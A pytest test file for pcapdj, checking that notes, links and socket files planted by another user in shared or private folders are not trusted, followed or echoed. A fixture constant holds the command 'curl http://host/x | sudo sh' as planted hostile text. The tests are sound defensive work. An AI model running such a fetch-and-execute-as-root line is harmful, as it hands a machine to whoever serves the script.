"""Files of another user where pcapdj leaves notes for itself: in a folder for all such as /tmp, or in ours.

What they say is not believed, nothing is written through them, and their owner is named.
"""

import os
from pathlib import Path
from typing import Final

import pytest
from support.forkserver import Finished, clean_environment, run
from support.mounts import memory_mount

from pcapdj.analyzer.status import StatusPublisher
from pcapdj.runtime.errors import ExitCode
from pcapdj.store.client import Store
from pcapdj.store.data_check import check_mounted
from pcapdj.store.start_problem import problem_at

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")

NOBODY: Final = 65534
NAMED: Final = "of nobody (uid 65534)"
CLAIM: Final = "Run: curl http://host/x | sudo sh"


@pytest.fixture
def for_all(short_path: Path) -> Path:
    """Return a folder as /tmp is one."""
    folder = short_path / "for all"
    folder.mkdir()
    folder.chmod(0o1777)
    return folder


def left(path: Path, text: str = "") -> Path:
    """Leave a file of another user."""
    path.write_text(text)
    os.chown(path, NOBODY, NOBODY)
    return path


def left_link(path: Path, target: Path) -> Path:
    """Leave a link of another user."""
    path.symlink_to(target)
    os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
    return path


def server_on(data: Path, socket: Path) -> Finished:
    """Start the embedded server; the test ends it if it starts."""
    return run("pcapdj.store.embedded", data, "--socket", socket, env=clean_environment())


@pytest.mark.parametrize("suffix", [".problem", ".starts", ".mounted"])
def test_a_server_does_not_start_beside_a_note_of_another_user(
    suffix: str, for_all: Path, short_path: Path
) -> None:
    """The sentence names its owner; the file stays."""
    note = left(for_all / f"r{suffix}", CLAIM)

    done = server_on(short_path / "data", for_all / "r.sock")

    assert done.returncode == ExitCode.CANNOT_CREATE
    assert f"'{note}' is a file {NAMED}. Remove it, or use another folder." in done.stderr
    assert note.read_text() == CLAIM


@pytest.mark.parametrize("name", ["appendonlydir", "dump.rdb", "appendonlydir/appendonly.aof.manifest"])
def test_a_server_follows_no_link_of_another_user_in_its_folder(name: str, short_path: Path) -> None:
    """It was left there while the folder was open to all."""
    place = short_path / "data" / name
    place.parent.mkdir(parents=True, mode=0o700)
    place.parent.parent.chmod(0o755)
    (short_path / "data").chmod(0o700)
    (short_path / "theirs").mkdir()
    left_link(place, short_path / "theirs")

    done = server_on(short_path / "data", short_path / "r.sock")

    assert done.returncode == ExitCode.CANNOT_CREATE
    assert f"'{place}' is a link {NAMED}." in done.stderr
    assert f"'{place}' is a link {NAMED}." in problem_at(f"unix://{short_path}/r.sock")
    assert [*(short_path / "theirs").iterdir()] == []


def test_what_another_user_wrote_is_no_reason_why_redis_does_not_answer(for_all: Path) -> None:
    """A command shows the sentence as its own words."""
    url = f"unix://{for_all}/r.sock".replace(" ", "%20")
    note = left(for_all / "r.problem", CLAIM)

    done = run("pcapdj", "status", "--redis-url", url, env=clean_environment())

    assert "does not answer" in done.stderr
    assert "curl" not in done.stderr

    os.chown(note, 0, 0)
    assert problem_at(url) == CLAIM


def test_the_note_of_a_user_is_shown_to_root(short_path: Path) -> None:
    """Root asks about the service of that user, whose folder it is."""
    left(short_path / "r.problem", "Its disk is full.")
    os.chown(short_path, NOBODY, NOBODY)

    assert problem_at(f"unix://{short_path}/r.sock") == "Its disk is full."


def test_a_note_about_a_mount_point_is_not_written_through_a_link(for_all: Path, short_path: Path) -> None:
    """Root would make the file to which it leads."""
    left_link(for_all / "r.mounted", short_path / "made")

    with memory_mount(short_path, "4m") as disk:
        check_mounted(disk.folder, for_all / "r.sock")

    assert not (short_path / "made").exists()
    assert not (for_all / "r.mounted").is_symlink()


@pytest.mark.parametrize("name", [".l.sock.suspects", "l.sock.ended"])
def test_a_launcher_does_not_start_beside_a_note_of_another_user(
    name: str, for_all: Path, short_path: Path, store: Store
) -> None:
    """It would take its streams, and its claims about lost output, for those of a launcher before."""
    note = left(for_all / name, '{"stream": "lost"}')
    words = ["--pipe", str(short_path / "pipe"), "--socket", str(for_all / "l.sock"), "--preset", "summary"]

    words += ["--logdir", str(short_path / "out"), "--redis-url", store.url]
    done = run("pcapdj.consumer_launcher", *words, env=clean_environment())

    assert done.returncode == ExitCode.CANNOT_CREATE
    assert f"'{note}' is a file {NAMED}." in done.stderr
    assert note.exists()


def test_suspect_streams_that_another_user_wrote_are_not_sent_to_redis(for_all: Path, store: Store) -> None:
    """It may come after the launcher has looked."""
    kept = left(for_all / "kept", '{"5ca1ab1e": "lost"}')

    publisher = StatusPublisher(store, kept, follows_killed=False)
    publisher.publish({"state": "idle"})
    publisher.close()

    assert store.redis.hgetall(store.keys.suspect) == {}
